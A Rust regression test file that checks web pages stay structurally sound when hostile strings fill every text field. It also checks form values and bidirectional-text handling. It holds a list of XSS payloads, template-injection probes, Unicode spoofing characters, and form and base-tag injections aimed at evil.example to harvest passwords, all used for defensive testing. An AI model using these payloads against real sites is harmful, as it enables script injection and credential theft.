//! REG-27, H7: hostile strings in every field of every page change nothing but the text.

use pages::{FormPost, Locale, Page};

use crate::{
    dom::{Document, Element},
    views::{Named, Texts, every, https},
    well_formed::{assert_sound, for_every_page},
};

const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "</title></textarea></style></script><script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=\"alert(1)",
    "javascript:alert(1)",
    "<svg/onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "--><script>alert(1)</script><!--",
    "]]><!DOCTYPE html><h1>x</h1>",
    "&lt;script&gt;&#60;script&#62;&amp;",
    "{{ 7*7 }}${7*7}{ $name }",
    "<form action=//evil.example><input name=password>",
    "<base href=//evil.example><meta http-equiv=refresh content=0>",
    "</main></body></html>",
    "\u{202E}gnp.exe\u{2069}\u{2066}\u{202A}\u{200F}\u{061C}",
    "\u{2068}\u{2068}\u{2068}never closed",
    "pay\u{200B}pal\u{FEFF} \u{2028}two\u{2029}lines",
    "שלום עולם",
    "<\u{202E}script\u{202C}>",
];

/// What is added to a text, and what stands in its place.
fn ways() -> impl Iterator<Item = Box<dyn Fn(&str) -> String>> {
    HOSTILE.iter().flat_map(|&hostile| {
        let after = move |text: &str| format!("{text}{hostile}");
        let instead = move |_: &str| hostile.to_owned();
        [
            Box::new(after) as Box<dyn Fn(&str) -> String>,
            Box::new(instead),
        ]
    })
}

#[test]
fn reg_27_a_page_stays_sound() {
    for way in ways() {
        for_every_page(&*way, |name, locale, page| {
            assert_sound(name, locale, page);
            for element in &page.elements {
                assert_directions_are_closed(name, element);
            }
        });
    }
}

#[test]
fn reg_27_a_page_has_the_same_elements_and_attributes() {
    let plain = shapes(&str::to_owned);
    for hostile in HOSTILE {
        let changed = shapes(&|text| format!("{text}{hostile}"));
        for ((name, plain), (_, changed)) in plain.iter().zip(&changed) {
            assert_eq!(plain, changed, "{name}: {hostile:?}");
        }
    }
}

fn shapes(text: &dyn Fn(&str) -> String) -> Vec<(String, Vec<String>)> {
    let pages = every(&Texts {
        locale: Locale::English,
        text,
    });
    let shape = |(name, page): Named| (name, Document::parse(&page.html().unwrap()).shape());
    pages.into_iter().map(shape).collect()
}

/// What a person is shown has no directional character but whole isolates.
fn assert_directions_are_closed(name: &str, element: &Element) {
    if ![
        "h1", "h2", "h3", "p", "li", "title", "button", "label", "a", "code",
    ]
    .contains(&element.name.as_str())
    {
        return;
    }
    for text in [Some(element.text.as_str()), element.get("aria-label")]
        .into_iter()
        .flatten()
    {
        let mut open = 0_i32;
        for c in text.chars() {
            match c {
                '\u{2068}' => open += 1,
                '\u{2069}' => open -= 1,
                '\u{061C}' | '\u{200B}' | '\u{200E}' | '\u{200F}' | '\u{FEFF}' => {
                    panic!("{name}: {text:?}")
                }
                '\u{2028}'..='\u{202E}' | '\u{2066}' | '\u{2067}' => panic!("{name}: {text:?}"),
                _ => {}
            }
            assert!(open >= 0, "{name}: {text:?}");
        }
        assert_eq!(open, 0, "{name}: {text:?}");
    }
}

#[test]
fn what_a_form_carries_comes_back_as_it_was() {
    let fields: Vec<(String, String)> = HOSTILE
        .iter()
        .map(|hostile| ("state".to_owned(), (*hostile).to_owned()))
        .collect();
    let text = &str::to_owned;
    let page = FormPost {
        frame: Texts {
            locale: Locale::English,
            text,
        }
        .frame(),
        target: https("https://app.example/cb"),
        fields,
    };
    let page = Document::parse(&page.html().unwrap());
    let sent: Vec<&str> = page
        .named("input")
        .map(|input| input.get("value").unwrap())
        .collect();
    assert_eq!(sent, HOSTILE);
}
